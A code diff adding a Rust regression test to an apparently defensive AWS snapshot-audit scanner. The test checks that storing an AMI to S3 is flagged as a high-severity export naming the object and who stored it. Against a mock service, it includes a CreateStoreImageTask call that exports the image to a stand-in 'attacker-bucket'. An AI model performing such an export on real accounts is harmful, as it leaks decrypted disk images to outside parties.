@@ -75,3 +75,33 @@ fn an_rds_snapshot_exported_to_an_untrusted_bucket_is_high_and_names_who() {
     let open = exported(&third).into_iter().find(|f| f["snapshot_id"] == "orders-manual").expect("still listed");
     assert_eq!(open["status"], "open");
 }
+
+/// Regression (issue 27, part 1): an AMI stored to S3
+/// (`CreateStoreImageTask`: the image and its snapshots, decrypted, as one
+/// object) left no trace on its launch permission. It is a
+/// `snapshot-exported` finding on the AMI naming the object and who stored
+/// it. moto lacks the store tasks: the proxy answers them.
+#[test]
+fn an_ami_stored_to_s3_is_snapshot_exported_and_names_who() {
+    let (moto, dir, rt) = (Moto::start(), TempDir::new(), runtime());
+    let proxy = Proxy::start(&moto.url);
+    let client = common::ec2(&proxy.url, "us-east-1");
+    let image = rt.block_on(async {
+        client.register_image().name("golden").send().await.expect("RegisterImage").image_id.unwrap()
+    });
+    let scan = || snapaudit(dir.path(), Some(&proxy.url), &["scan", "--format", "jsonl", "--region", "us-east-1"]);
+    assert_eq!(scan().code, 0);
+    rt.block_on(async {
+        let store = client.create_store_image_task().image_id(&image).bucket("attacker-bucket");
+        store.send().await.expect("CreateStoreImageTask");
+    });
+    common::next_second();
+    let run = scan();
+    assert_eq!(run.code, 1, "{run:?}");
+    let stored = exported(&run).into_iter().find(|f| f["snapshot_id"] == image.as_str()).expect("stored");
+    assert_eq!(stored["service"], "ami");
+    assert_eq!(stored["severity"], "high");
+    assert_eq!(stored["grantees"], serde_json::json!([format!("s3://attacker-bucket/{image}.bin")]));
+    assert!(stored["message"].as_str().unwrap().contains("was stored to s3://attacker-bucket/"), "{stored}");
+    assert_eq!(stored["actor"]["event_name"], "CreateStoreImageTask", "{stored}");
+}
